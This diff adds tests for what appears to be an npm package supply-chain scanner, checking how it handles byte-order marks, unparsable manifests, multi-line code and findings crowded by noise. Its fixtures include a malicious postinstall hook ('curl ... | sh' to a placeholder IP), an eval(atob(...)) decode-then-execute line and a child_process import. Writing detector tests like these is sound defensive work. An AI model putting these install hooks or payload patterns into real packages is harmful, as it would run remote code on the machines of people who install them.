@@ -91,3 +91,43 @@ test('severity order and severityAtLeast', () => {
   const table: Array<[Severity, Severity, boolean]> = [['high', 'medium', true], ['medium', 'medium', true], ['low', 'medium', false], ['critical', 'info', true], ['info', 'low', false]];
   for (const [a, b, want] of table) assert.equal(severityAtLeast(a, b), want, `${a} >= ${b}`);
 });
+
+test('a package.json with a byte-order mark is read as npm reads it', () => {
+  const pkg = `\uFEFF${pkgJson({ version: '1.0.1', scripts: { postinstall: 'curl -s https://203.0.113.7/p | sh' } })}`;
+  const next: PackageSide = { manifest: { name: 'demo', version: '1.0.1' }, files: [{ path: 'package.json', bytes: pkg }, { path: 'index.js', bytes: BENIGN_INDEX }] };
+  const report = analyze(base(), next);
+  assert.ok(report.findings.some((f) => f.rule === 'install-script/new-postinstall'), JSON.stringify(report.findings.map((f) => f.rule)));
+});
+
+test('a package.json that does not parse is a high finding, not a silent fallback to the registry manifest', () => {
+  const next: PackageSide = { manifest: { name: 'demo', version: '1.0.1' }, files: [{ path: 'package.json', bytes: '{"name": "demo", "scripts": {' }, { path: 'index.js', bytes: BENIGN_INDEX }] };
+  const finding = analyze(base(), next).findings.find((f) => f.rule === 'metadata/unreadable-package-json');
+  assert.equal(finding?.severity, 'high');
+});
+
+test('a capability written across several lines is new when any of its lines is', () => {
+  const prev = withFiles({ 'lib/x.js': "module.exports = require(\n  './a'\n);\nfunction f(x) {\n  return log(\n    atob(x)\n  );\n}\n" });
+  const next = withFiles({ 'lib/x.js': "module.exports = require(\n  'child_process'\n);\nfunction f(x) {\n  return eval(\n    atob(x)\n  );\n}\n" });
+  const rules = analyze(prev, next).findings.map((f) => f.rule);
+  assert.ok(rules.includes('process/new-child-process'), JSON.stringify(rules));
+  assert.ok(rules.includes('dynamic-code/decode-then-execute'), JSON.stringify(rules));
+});
+
+test('many harmless signals cannot crowd out a payload', () => {
+  const urls = Array.from({ length: 6000 }, (_, i) => `'https://docs.example.com/page/${i}',`).join('\n');
+  const next = withFiles({ 'lib/links.js': `module.exports = [\n${urls}\n];\neval(atob(p));\n` });
+  const rules = analyze(base(), next).findings.map((f) => f.rule);
+  assert.ok(rules.includes('dynamic-code/decode-then-execute'), JSON.stringify([...new Set(rules)]));
+});
+
+test('stats describe the new version whether or not the cache already had its files', () => {
+  const cache = new Map();
+  const next = withFiles({ 'lib/a.js': 'function ( { <<< ' });
+  const first = analyze(base(), next, { cache });
+  const second = analyze(base(), next, { cache });
+  assert.ok(second.findings.some((f) => f.rule === 'obfuscation/unparsable-code'));
+  assert.equal(second.stats.filesParsed, 0, 'nothing parsed twice');
+  assert.equal(second.stats.filesScanned, first.stats.filesScanned);
+  assert.equal(second.stats.filesUnparsable, 1);
+  assert.equal(first.stats.filesUnparsable, 1);
+});
